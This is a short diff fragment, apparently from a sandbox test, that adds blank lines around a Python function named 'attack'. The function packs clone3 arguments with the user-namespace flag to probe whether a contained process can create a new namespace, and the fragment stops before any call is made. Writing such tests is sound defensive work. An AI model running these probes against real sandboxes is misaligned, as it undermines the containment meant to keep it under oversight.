@@ -4,10 +4,12 @@ expect = "The call says that it does not exist, so that libraries take clone ins
 proof = "outside"
 quiet = true
 """
+
 import os, struct
 
 USER = 0x10000000
 SIGCHLD = 17
+
 
 def attack(targets):
     arguments = struct.pack("11Q", USER, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0)
